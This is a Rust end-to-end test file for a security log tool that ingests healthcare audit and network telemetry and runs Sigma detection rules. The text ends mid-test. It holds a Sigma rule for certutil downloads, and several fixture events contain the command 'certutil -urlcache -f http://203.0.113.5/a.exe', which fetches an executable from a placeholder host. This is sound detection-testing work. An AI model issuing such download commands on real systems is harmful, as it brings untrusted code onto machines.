//! End-to-end tests: they drive the `ward` binary the way a user does, on real fixture files,
//! each in its own temporary data directory.

use serde_json::Value;
use std::path::Path;
use std::process::Stdio;

mod common;
use common::{Ward, shared_data};

const AUDIT_READ: &str = r#"{"resourceType":"AuditEvent","id":"r1","type":{"system":"http://terminology.hl7.org/CodeSystem/audit-event-type","code":"rest"},"subtype":[{"system":"http://hl7.org/fhir/restful-interaction","code":"read"}],"action":"R","recorded":"2024-05-01T10:00:00Z","outcome":"0","agent":[{"who":{"identifier":{"value":"u1035"}},"requestor":true,"network":{"address":"10.1.2.3","type":"2"}}],"source":{"observer":{"display":"ehr.example"}},"entity":[{"what":{"reference":"Patient/p42"},"type":{"code":"1"},"role":{"code":"1"}}]}"#;

fn audit_read(id: &str, user: &str, patient: &str, time: &str) -> String {
    AUDIT_READ
        .replace("\"r1\"", &format!("\"{id}\""))
        .replace("u1035", user)
        .replace("p42", patient)
        .replace("2024-05-01T10:00:00Z", time)
}

#[test]
fn ingests_every_official_hl7_auditevent_example_r4_and_r5() {
    let Some(data) = shared_data() else { return };
    let ward = Ward::new();
    let mut files = 0;
    for version in ["r4", "r5"] {
        for entry in std::fs::read_dir(data.join("fhir").join(version)).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().to_string();
            if !name.starts_with("audit") {
                continue;
            }
            let summary = ward.ingest_json(&path);
            assert_eq!(summary["accepted"], 1, "{name}: {summary}");
            assert_eq!(summary["quarantined"], 0, "{name}: {summary}");
            files += 1;
        }
    }
    assert_eq!(files, 15, "expected 6 R4 and 9 R5 AuditEvent examples");
    let events = ward.json_lines(&["events", "--json", "--limit", "100"]);
    assert_eq!(events.len(), 15);
    let breakglass = events
        .iter()
        .find(|e| e["metadata"]["uid"] == "example-breakglass-start")
        .unwrap();
    assert_eq!(breakglass["purpose_of_use"], serde_json::json!(["ETREAT"]));
    assert_eq!(breakglass["patient"]["id"], "example");
}

#[test]
fn quarantines_truncated_and_garbage_lines_with_their_line_numbers_and_keeps_the_valid_one() {
    let ward = Ward::new();
    let valid = audit_read("ok", "u1", "p1", "2024-05-01T10:00:00Z");
    let truncated = &valid[..valid.len() / 2];
    let mut input = format!("{valid}\n{truncated}\n").into_bytes();
    input.extend_from_slice(&[0xff, 0xfe, 0x00, 0x9c, b'{', 0x80, 0x01, b'\n']);
    let path = ward.file("mixed.ndjson", &input);

    let out = ward.run(&["ingest", path.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("1 events accepted"), "{stdout}");
    assert!(stdout.contains("2 quarantined"), "{stdout}");

    let quarantined = ward.json_lines(&["quarantine", "list", "--json"]);
    assert_eq!(quarantined.len(), 2);
    assert_eq!(quarantined[0]["position"]["line"], 2);
    assert_eq!(quarantined[0]["position"]["offset"], valid.len() as u64 + 1);
    assert_eq!(quarantined[0]["raw"], truncated);
    assert!(!quarantined[0]["reason"].as_str().unwrap().is_empty());
    assert_eq!(quarantined[1]["position"]["line"], 3);
    assert_eq!(quarantined[1]["raw_len"], 7);
    assert_eq!(quarantined[1]["source"], path.to_str().unwrap());

    let listing = ward.ok(&["quarantine", "list"]);
    assert!(listing.contains(":line 2"), "{listing}");
    assert!(listing.contains(":line 3"), "{listing}");
}

#[test]
fn ingesting_the_same_file_twice_stores_each_event_once() {
    let ward = Ward::new();
    let lines: Vec<String> = (0..50)
        .map(|i| {
            audit_read(
                &format!("e{i}"),
                "u1",
                &format!("p{i}"),
                "2024-05-01T10:00:00Z",
            )
        })
        .collect();
    let path = ward.file("audit.ndjson", lines.join("\n").as_bytes());
    let first = ward.ingest_json(&path);
    assert_eq!(
        (first["accepted"].as_u64(), first["duplicates"].as_u64()),
        (Some(50), Some(0))
    );
    let second = ward.ingest_json(&path);
    assert_eq!(
        (second["accepted"].as_u64(), second["duplicates"].as_u64()),
        (Some(0), Some(50))
    );
    assert_eq!(
        ward.json_lines(&["events", "--json", "--limit", "1000"])
            .len(),
        50
    );
}

#[test]
fn a_file_that_is_not_the_named_format_exits_2_naming_the_file_and_first_bad_line() {
    let ward = Ward::new();
    let path = ward.file("roster.csv", b"\n\nname,department\nalice,cardiology\n");
    let out = ward.run(&["ingest", "--format", "fhir", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("roster.csv"), "{stderr}");
    assert!(stderr.contains("line 3"), "{stderr}");
    assert!(stderr.contains("is not fhir"), "{stderr}");
    assert_eq!(
        ward.json_lines(&["quarantine", "list", "--json"]).len(),
        0,
        "a refused file stores nothing"
    );
}

#[test]
fn an_unrecognisable_file_exits_2_and_suggests_format() {
    let ward = Ward::new();
    let path = ward.file("notes.txt", b"Dear team,\nthe audit is on Monday.\n");
    let out = ward.run(&["ingest", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("notes.txt") && stderr.contains("--format"),
        "{stderr}"
    );
}

#[test]
fn unknown_format_name_is_a_usage_error() {
    let ward = Ward::new();
    let path = ward.file("a.ndjson", AUDIT_READ.as_bytes());
    let out = ward.run(&["ingest", "--format", "nope", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("known formats"));
}

#[test]
fn missing_file_is_bad_input() {
    let ward = Ward::new();
    let out = ward.run(&["ingest", "/no/such/file.ndjson"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/no/such/file.ndjson"));
}

#[test]
fn reads_standard_input_with_dash() {
    let ward = Ward::new();
    let mut child = ward
        .command(&["ingest", "--json", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(audit_read("s1", "u9", "p9", "2024-05-01T11:00:00Z").as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary["accepted"], 1);
    assert_eq!(summary["source"], "-");
}

#[test]
fn quarantine_retry_stores_records_that_decode_with_the_right_format() {
    let ward = Ward::new();
    let audit = audit_read("a1", "u1", "p1", "2024-05-01T10:00:00Z");
    let plain = r#"{"time":"2024-05-01T10:05:00Z","user":"jdoe","src_ip":"10.9.9.9","action":"login","outcome":"failure"}"#;
    let path = ward.file("mixed.ndjson", format!("{audit}\n{plain}\n").as_bytes());
    let first = ward.ingest_json(&path);
    assert_eq!(
        (first["accepted"].as_u64(), first["quarantined"].as_u64()),
        (Some(1), Some(1))
    );

    let still = ward.ok(&["quarantine", "retry"]);
    assert!(still.contains("0 released"), "{still}");
    let retried = ward.ok(&["quarantine", "retry", "--format", "jsonl"]);
    assert!(retried.contains("1 released"), "{retried}");
    assert!(
        ward.json_lines(&["quarantine", "list", "--json"])
            .is_empty()
    );
    let events = ward.json_lines(&["events", "--json", "--user", "jdoe"]);
    assert_eq!(events.len(), 1);
    assert_eq!(events[0]["src_endpoint"]["ip"], "10.9.9.9");
    assert_eq!(events[0]["metadata"]["log_name"], path.to_str().unwrap());
}

#[test]
fn reads_pretty_printed_resources_and_bundles_as_whole_documents() {
    let ward = Ward::new();
    let entries: Vec<String> = (0..3)
        .map(|i| {
            format!(
                "{{\"resource\": {}}}",
                audit_read(&format!("b{i}"), "u2", "p2", "2024-05-02T09:00:00Z")
            )
        })
        .collect();
    let bundle = format!(
        "{{\n  \"resourceType\": \"Bundle\",\n  \"type\": \"collection\",\n  \"entry\": [\n{}\n]\n}}\n",
        entries.join(",\n")
    );
    let path = ward.file("bundle.json", bundle.as_bytes());
    let summary = ward.ingest_json(&path);
    assert_eq!(summary["accepted"], 3, "{summary}");
    assert_eq!(
        ward.json_lines(&["events", "--json", "--patient", "p2"])
            .len(),
        3
    );
}

#[test]
fn events_can_be_found_by_patient_user_source_ip_and_time() {
    let ward = Ward::new();
    let lines = [
        audit_read("q1", "alice", "p1", "2024-05-01T08:00:00Z"),
        audit_read("q2", "bob", "p1", "2024-05-01T09:00:00Z"),
        audit_read("q3", "alice", "p2", "2024-05-01T10:00:00Z"),
    ];
    let path = ward.file("a.ndjson", lines.join("\n").as_bytes());
    ward.ingest_json(&path);
    let ids = |args: &[&str]| -> Vec<String> {
        let mut all = vec!["events", "--json"];
        all.extend_from_slice(args);
        ward.json_lines(&all)
            .iter()
            .map(|e| e["metadata"]["uid"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(ids(&["--patient", "p1"]), ["q2", "q1"]);
    assert_eq!(ids(&["--user", "alice"]), ["q3", "q1"]);
    assert_eq!(ids(&["--src-ip", "10.1.2.3"]).len(), 3);
    assert_eq!(ids(&["--since", "2024-05-01T09:00:00Z"]), ["q3", "q2"]);
    assert_eq!(
        ids(&[
            "--since",
            "2024-05-01T08:00:00Z",
            "--until",
            "2024-05-01T10:00:00Z",
            "--user",
            "alice"
        ]),
        ["q1"]
    );
}

#[test]
fn imports_official_fhir_context_examples() {
    let Some(data) = shared_data() else { return };
    let ward = Ward::new();
    let r4 = data.join("fhir/r4");
    let mut args = vec![
        "context".to_string(),
        "import".to_string(),
        "--json".to_string(),
    ];
    for name in [
        "patient-example.json",
        "patient-example-a.json",
        "practitioner-example-f001-evdb.json",
        "encounter-example-f001-heart.json",
        "careteam-example.json",
    ] {
        args.push(r4.join(name).to_string_lossy().to_string());
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let summaries = ward.json_lines(&args);
    assert_eq!(summaries.len(), 5);
    for s in &summaries {
        assert_eq!(s["quarantined"], 0, "{s}");
    }
    let stats = ward.ok(&["context", "stats"]);
    let count = |kind: &str| -> u64 {
        stats
            .lines()
            .find(|l| l.split_whitespace().next() == Some(kind))
            .unwrap()
            .split_whitespace()
            .nth(1)
            .unwrap()
            .parse()
            .unwrap()
    };
    assert_eq!(count("Patient"), 2);
    assert_eq!(count("Practitioner"), 1);
    assert_eq!(count("Encounter"), 1);
    assert_eq!(count("CareTeam"), 1);
}

#[test]
fn audit_events_given_to_context_import_are_refused_with_exit_2() {
    let ward = Ward::new();
    let path = ward.file("audit.ndjson", AUDIT_READ.as_bytes());
    let out = ward.run(&["context", "import", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("audit.ndjson"));
}

#[test]
fn alerts_json_is_empty_on_a_new_store_and_text_says_so() {
    let ward = Ward::new();
    assert_eq!(ward.ok(&["alerts", "--json"]), "");
    assert!(ward.ok(&["alerts"]).contains("no alerts"));
    assert_eq!(
        ward.run(&["alerts", "--since", "yesterday-ish"])
            .status
            .code(),
        Some(2)
    );
}

#[test]
fn verify_reports_an_intact_chain_after_ingest() {
    let ward = Ward::new();
    let path = ward.file("a.ndjson", AUDIT_READ.as_bytes());
    ward.ingest_json(&path);
    let out = ward.ok(&["verify"]);
    assert!(
        out.contains("chain intact") && out.contains("1 events"),
        "{out}"
    );
}

#[test]
fn unknown_configuration_keys_are_refused() {
    let ward = Ward::new();
    let config = ward.file("ward.toml", b"[ingest]\nworkerz = 2\n");
    let out = ward.run(&["--config", config.to_str().unwrap(), "alerts"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("workerz"));
}

#[test]
fn docs_fields_md_matches_the_code() {
    let ward = Ward::new();
    let generated = ward.ok(&["fields", "--markdown"]);
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/fields.md");
    let documented = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        documented == generated,
        "docs/fields.md is out of date: run `cargo run -- fields --markdown > docs/fields.md`"
    );
}

#[test]
fn a_simulated_hospital_ingests_without_a_single_quarantined_record() {
    let ward = Ward::new();
    let out = ward.path("sim");
    let out_str = out.to_str().unwrap();
    let printed = ward.ok(&[
        "simulate",
        "--out",
        out_str,
        "--seed",
        "7",
        "--days",
        "1",
        "--staff",
        "60",
        "--patients",
        "600",
    ]);
    assert!(printed.contains("planted incidents"), "{printed}");
    let truth: Value =
        serde_json::from_slice(&std::fs::read(out.join("truth.json")).unwrap()).unwrap();
    assert!(
        truth.as_array().is_some_and(|a| !a.is_empty())
            || truth["incidents"].as_array().is_some_and(|a| !a.is_empty()),
        "{truth}"
    );

    let mut context: Vec<String> = std::fs::read_dir(out.join("context"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "ndjson"))
        .map(|p| p.to_string_lossy().to_string())
        .collect();
    context.sort();
    let mut args = vec!["context", "import", "--json"];
    args.extend(context.iter().map(String::as_str));
    for summary in ward.json_lines(&args) {
        assert_eq!(summary["quarantined"], 0, "{summary}");
    }

    // Every telemetry file, in every format, recognised and ingested without a quarantined
    // record.
    let mut telemetry = Vec::new();
    let mut stack = vec![out.join("telemetry")];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                telemetry.push(path);
            }
        }
    }
    telemetry.sort();
    let mut formats = std::collections::BTreeSet::new();
    for path in &telemetry {
        let summary = ward.ingest_json(path);
        assert_eq!(summary["quarantined"], 0, "{summary}");
        assert!(summary["accepted"].as_u64().unwrap() > 0, "{summary}");
        formats.insert(summary["format"].as_str().unwrap().to_string());
    }
    let expected = [
        "atna",
        "authlog",
        "email",
        "entra",
        "fhir",
        "hl7",
        "m365-trace",
        "postfix",
        "windows",
        "zeek",
    ];
    assert_eq!(
        formats.iter().map(String::as_str).collect::<Vec<_>>(),
        expected
    );
    let audit = out.join("telemetry/ehr-audit.ndjson");

    // Deterministic: the same seed writes the same bytes.
    let again = ward.path("sim2");
    ward.ok(&[
        "simulate",
        "--out",
        again.to_str().unwrap(),
        "--seed",
        "7",
        "--days",
        "1",
        "--staff",
        "60",
        "--patients",
        "600",
    ]);
    assert_eq!(
        std::fs::read(&audit).unwrap(),
        std::fs::read(again.join("telemetry/ehr-audit.ndjson")).unwrap()
    );
}

#[test]
fn simulate_refuses_an_impossible_hospital() {
    let ward = Ward::new();
    let out = ward.run(&[
        "simulate",
        "--out",
        ward.path("x").to_str().unwrap(),
        "--staff",
        "2",
    ]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn auth_log_lines_without_a_year_take_the_year_the_file_was_written() {
    let ward = Ward::new();
    let path = ward.file(
        "auth.log",
        b"Nov 27 03:12:01 vpn1 sshd[4242]: Failed password for invalid user admin from 203.0.113.9 port 51234 ssh2\n\
          Nov 27 03:12:04 vpn1 sshd[4242]: Accepted password for jdoe from 203.0.113.9 port 51240 ssh2\n\
          Nov 27 03:13:00 vpn1 CRON[99]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n",
    );
    let summary = ward.ingest_json(&path);
    assert_eq!(
        (
            summary["accepted"].as_u64(),
            summary["quarantined"].as_u64()
        ),
        (Some(3), Some(0)),
        "{summary}"
    );
    assert_eq!(summary["format"], "authlog");
    let year = chrono::DateTime::<chrono::Utc>::from(
        std::fs::metadata(&path).unwrap().modified().unwrap(),
    )
    .format("%Y")
    .to_string();
    let events = ward.json_lines(&[
        "events",
        "--json",
        "--src-ip",
        "203.0.113.9",
        "--since",
        "1970-01-01",
    ]);
    assert_eq!(events.len(), 2);
    for e in &events {
        assert!(
            e["time"]
                .as_str()
                .unwrap()
                .starts_with(&format!("{year}-11-27T03:1")),
            "{e}"
        );
        assert_eq!(e["class_uid"], 3002);
    }
    assert_eq!(
        events.iter().filter(|e| e["status"] == "failure").count(),
        1
    );
}

#[test]
fn hl7_adt_messages_spanning_lines_are_events_and_context() {
    let ward = Ward::new();
    let adt = "MSH|^~\\&|EPIC|STMARY|WARD|STMARY|202611020815||ADT^A01|MSG0001|P|2.5\n\
               EVN|A01|202611020810\n\
               PID|1||MRN004411^^^STMARY^MR||LINDQVIST^MAJA||19510730|F|||12 ELM ROW^^SPRINGFIELD^IL^62701\n\
               PV1|1|I|CARD^301^A|||||1035^OKAFOR^ADA|||CAR||||||||V9001\n\
               MSH|^~\\&|EPIC|STMARY|WARD|STMARY|202611021200||ADT^A02|MSG0002|P|2.5\n\
               EVN|A02|202611021158\n\
               PID|1||MRN004411^^^STMARY^MR||LINDQVIST^MAJA||19510730|F\n\
               PV1|1|I|ICU^2^B|||CARD^301^A||1035^OKAFOR^ADA|||CAR||||||||V9001\n";
    let path = ward.file("adt.hl7", adt.as_bytes());
    let summary = ward.ingest_json(&path);
    assert_eq!(
        (
            summary["accepted"].as_u64(),
            summary["quarantined"].as_u64()
        ),
        (Some(2), Some(0)),
        "{summary}"
    );
    assert_eq!(summary["format"], "hl7");
    let events = ward.json_lines(&[
        "events",
        "--json",
        "--patient",
        "MRN004411",
        "--since",
        "2026-01-01",
    ]);
    assert_eq!(events.len(), 2);
    assert_eq!(events[0]["metadata"]["event_code"], "A02");

    let imported = ward.json_lines(&["context", "import", "--json", path.to_str().unwrap()]);
    assert_eq!(imported[0]["quarantined"], 0, "{}", imported[0]);
    assert_eq!(imported[0]["imported"]["Encounter"], 2, "{}", imported[0]);
    let stats = ward.ok(&["context", "stats"]);
    assert!(
        stats
            .lines()
            .any(|l| l.split_whitespace().collect::<Vec<_>>() == ["Encounter", "1"]),
        "the A02 replaces the A01's encounter: {stats}"
    );
}

#[test]
fn zeek_tsv_rows_are_read_with_the_header_that_precedes_them_and_bad_rows_are_quarantined() {
    let ward = Ward::new();
    let log = "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tconn\n\
               #fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\n\
               #types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\n\
               1762070400.000000\tC1\t10.30.1.15\t49152\t10.10.0.5\t2575\ttcp\t-\t1.5\t900\t120\tSF\n\
               1762070401.000000\tC2\t10.30.1.15\tnot-a-port\t10.10.0.5\t2575\ttcp\t-\t1.5\t900\t120\tSF\n\
               1762070402.000000\tC3\t192.168.50.7\t50000\t10.10.0.9\t5432\ttcp\t-\t0.2\t10\t0\tS0\n";
    let path = ward.file("conn.log", log.as_bytes());
    let summary = ward.ingest_json(&path);
    assert_eq!(
        (
            summary["accepted"].as_u64(),
            summary["quarantined"].as_u64()
        ),
        (Some(2), Some(1)),
        "{summary}"
    );
    let quarantined = ward.json_lines(&["quarantine", "list", "--json"]);
    assert_eq!(quarantined[0]["position"]["line"], 9);
    let events = ward.json_lines(&[
        "events",
        "--json",
        "--src-ip",
        "192.168.50.7",
        "--since",
        "2025-01-01",
    ]);
    assert_eq!(events.len(), 1);
    assert_eq!(events[0]["dst_endpoint"]["port"], 5432);
}

#[test]
fn ingests_the_ihe_atna_sample_messages() {
    let Some(data) = shared_data() else { return };
    let ward = Ward::new();
    let mut files = 0;
    for entry in std::fs::read_dir(data.join("atna")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|x| x != "xml") {
            continue;
        }
        let summary = ward.ingest_json(&path);
        assert_eq!(
            (
                summary["accepted"].as_u64(),
                summary["quarantined"].as_u64()
            ),
            (Some(1), Some(0)),
            "{summary}"
        );
        assert_eq!(summary["format"], "atna", "{summary}");
        files += 1;
    }
    assert_eq!(files, 12);
}

#[test]
fn sigma_regression_evtx_files_and_their_json_renderings_give_the_same_events() {
    let Some(data) = shared_data() else { return };
    let ward = Ward::new();
    let mut evtx_files = Vec::new();
    let mut stack = vec![data.join("sigma/regression_data")];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else if path.extension().is_some_and(|x| x == "evtx") {
                evtx_files.push(path);
            }
        }
    }
    evtx_files.sort();
    assert!(
        evtx_files.len() >= 90,
        "found {} EVTX files",
        evtx_files.len()
    );
    let mut events = 0;
    for evtx in &evtx_files {
        let from_evtx = ward.ingest_json(evtx);
        assert_eq!(
            from_evtx["format"],
            "evtx",
            "{}: {from_evtx}",
            evtx.display()
        );
        assert_eq!(
            from_evtx["quarantined"],
            0,
            "{}: {from_evtx}",
            evtx.display()
        );
        let from_json = ward.ingest_json(&evtx.with_extension("json"));
        assert_eq!(
            from_json["format"],
            "windows",
            "{}: {from_json}",
            evtx.display()
        );
        assert_eq!(
            from_json["quarantined"],
            0,
            "{}: {from_json}",
            evtx.display()
        );
        // Some samples are byte-identical copies under two rules: count duplicates too.
        let count = |s: &Value| s["accepted"].as_u64().unwrap() + s["duplicates"].as_u64().unwrap();
        assert!(
            count(&from_evtx) > 0,
            "{}: no events: {from_evtx}",
            evtx.display()
        );
        assert_eq!(count(&from_evtx), count(&from_json), "{}", evtx.display());
        assert_eq!(
            from_evtx["accepted"],
            from_json["accepted"],
            "{}",
            evtx.display()
        );
        events += from_evtx["accepted"].as_u64().unwrap();
    }
    // The same records, read from either container, carry the same Sigma fields.
    let stored = ward.json_lines(&[
        "events",
        "--json",
        "--since",
        "1970-01-01",
        "--limit",
        "100000",
    ]);
    assert_eq!(stored.len() as u64, 2 * events);
    let key = |e: &Value| {
        let u = &e["unmapped"];
        (
            u["EventRecordID"].to_string(),
            u["Channel"].to_string(),
            u["EventID"].to_string(),
            e["device"]["hostname"].to_string(),
        )
    };
    let mut from_evtx: Vec<_> = stored
        .iter()
        .filter(|e| {
            e["metadata"]["log_name"]
                .as_str()
                .unwrap()
                .ends_with(".evtx")
        })
        .map(key)
        .collect();
    let mut from_json: Vec<_> = stored
        .iter()
        .filter(|e| {
            e["metadata"]["log_name"]
                .as_str()
                .unwrap()
                .ends_with(".json")
        })
        .map(key)
        .collect();
    from_evtx.sort();
    from_json.sort();
    assert_eq!(from_evtx, from_json);
}

#[test]
fn gzipped_logs_are_read_as_they_are() {
    let Some(data) = shared_data() else { return };
    let ward = Ward::new();
    let summary = ward.ingest_json(&data.join("otrf/otrf-windows-30k.jsonl.gz"));
    assert_eq!(summary["format"], "windows", "{summary}");
    assert_eq!(summary["records"], 30_000, "{summary}");
    // The sample holds a few byte-identical events: stored once, counted as duplicates.
    let stored = summary["accepted"].as_u64().unwrap();
    assert_eq!(
        stored + summary["duplicates"].as_u64().unwrap(),
        30_000,
        "{summary}"
    );
    assert!(stored > 29_900, "{summary}");
    assert_eq!(summary["quarantined"], 0, "{summary}");
}

const RULE_CERTUTIL: &str = r#"title: Certutil download
id: 11111111-2222-3333-4444-555555555555
status: test
level: high
author: Ward tests
tags:
  - attack.command-and-control
  - attack.t1105
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains|all:
      - 'urlcache'
      - 'http'
  condition: selection
"#;

#[test]
fn rules_validate_names_each_rule_that_does_not_load_and_exits_1() {
    let ward = Ward::new();
    let dir = ward.path("rules");
    std::fs::create_dir_all(dir.join("sub")).unwrap();
    std::fs::write(dir.join("good.yml"), RULE_CERTUTIL).unwrap();
    std::fs::write(
        dir.join("sub/bad.yml"),
        RULE_CERTUTIL.replace("Image|endswith", "Image|endwith"),
    )
    .unwrap();
    let out = ward.run(&["rules", "validate", dir.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("bad.yml") && text.contains("endwith"),
        "{text}"
    );
    assert!(text.contains("1 loaded"), "{text}");
    std::fs::remove_file(dir.join("sub/bad.yml")).unwrap();
    assert!(
        ward.run(&["rules", "validate", dir.to_str().unwrap()])
            .status
            .success()
    );
}

#[test]
fn rules_test_shows_which_events_of_a_file_match_and_why() {
    let ward = Ward::new();
    let rule = ward.file("rule.yml", RULE_CERTUTIL.as_bytes());
    let events = ward.file(
        "events.ndjson",
        br#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws1","TimeCreated":"2026-11-02T10:00:00Z","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws1","TimeCreated":"2026-11-02T10:01:00Z","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -hashfile a.exe"}
"#,
    );
    let out = ward.ok(&[
        "rules",
        "test",
        rule.to_str().unwrap(),
        events.to_str().unwrap(),
    ]);
    assert!(out.contains("1 of 2 events match"), "{out}");
    assert!(out.contains("matched by selection"), "{out}");
    assert!(out.contains("author: Ward tests"), "{out}");
}

#[test]
fn hunt_runs_rules_over_files_without_storing_and_names_each_rules_author() {
    let ward = Ward::new();
    let rules = ward.path("hunt-rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("certutil.yml"), RULE_CERTUTIL).unwrap();
    std::fs::write(rules.join("broken.yml"), "title: [unclosed").unwrap();
    let events = ward.file(
        "hunt.ndjson",
        br#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws7","TimeCreated":"2026-11-02T10:00:00Z","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.5/a.exe a.exe","User":"WGH\\jdoe"}
{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws7","TimeCreated":"2026-11-02T10:01:00Z","Image":"C:\\Windows\\notepad.exe","CommandLine":"notepad"}
"#,
    );
    let out = ward.run(&[
        "hunt",
        "--json",
        rules.to_str().unwrap(),
        events.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lines: Vec<Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["rule_id"], "11111111-2222-3333-4444-555555555555");
    assert_eq!(lines[0]["author"], "Ward tests");
    assert_eq!(lines[0]["attack"], serde_json::json!(["T1105"]));
    assert_eq!(lines[0]["event"]["device"]["hostname"], "ws7");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("broken.yml") && stderr.contains("1 not loaded"),
        "{stderr}"
    );
    assert!(
        !ward.data_dir().join("ward.db").exists(),
        "hunting stores nothing"
    );
}

#[test]
fn hunt_without_files_runs_rules_over_stored_events_in_time_order_within_since_and_until() {
    let ward = Ward::new();
    let rules = ward.path("hunt-rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("certutil.yml"), RULE_CERTUTIL).unwrap();
    let line = |minute: u32, image: &str| {
        format!(
            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws{minute}","TimeCreated":"2026-11-02T10:{minute:02}:00Z","Image":"C:\\Windows\\System32\\{image}","CommandLine":"{image} -urlcache -f http://203.0.113.5/a.exe a.exe"}}"#
        )
    };
    // Stored out of time order: the hunt reads them back oldest first.
    let events = ward.file(
        "stored.ndjson",
        [
            line(30, "certutil.exe"),
            line(5, "certutil.exe"),
            line(10, "notepad.exe"),
            line(50, "certutil.exe"),
        ]
        .join("\n")
        .as_bytes(),
    );
    ward.ok(&["ingest", events.to_str().unwrap()]);
    let hunt = |extra: &[&str]| -> Vec<String> {
        let mut args = vec!["hunt", "--json", rules.to_str().unwrap()];
        args.extend_from_slice(extra);
        ward.ok(&args)
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                v["event"]["device"]["hostname"]
                    .as_str()
                    .unwrap()
                    .to_string()
            })
            .collect()
    };
    assert_eq!(
        hunt(&["--since", "2026-11-01"]),
        ["ws5", "ws30", "ws50"],
        "every stored match, oldest first"
    );
    assert_eq!(
        hunt(&[
            "--since",
            "2026-11-02T10:06:00Z",
            "--until",
            "2026-11-02T10:50:00Z"
        ]),
        ["ws30"],
        "since inclusive, until exclusive"
    );
    assert!(
        hunt(&["--since", "2026-11-03"]).is_empty(),
        "nothing after the last event"
    );
    let out = ward.run(&["hunt", rules.to_str().unwrap(), "--since", "yesterday-ish"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn rules_added_to_the_store_are_checked_listed_and_run_by_ingest_until_removed() {
    let ward = Ward::new();
    let good = ward.file("certutil.yml", RULE_CERTUTIL.as_bytes());
    let broken = ward.file("broken.yml", b"title: [unclosed");
    let sysmon = |minute: u32| {
        format!(
            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws{minute}","TimeCreated":"2026-11-02T10:{minute:02}:00Z","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}}"#
        )
    };
    let alerts_of_rule = |ward: &Ward| -> usize {
        ward.ok(&["alerts", "--json"])
            .lines()
            .filter(|l| l.contains("11111111-2222-3333-4444-555555555555"))
            .count()
    };
    // Before: the shipped pack has no such rule.
    ward.ok(&[
        "ingest",
        ward.file("a.ndjson", sysmon(1).as_bytes())
            .to_str()
            .unwrap(),
    ]);
    assert_eq!(alerts_of_rule(&ward), 0);

    // A file that does not load is refused whole, naming itself.
    let out = ward.run(&[
        "rules",
        "add",
        good.to_str().unwrap(),
        broken.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("broken.yml"));
    assert!(
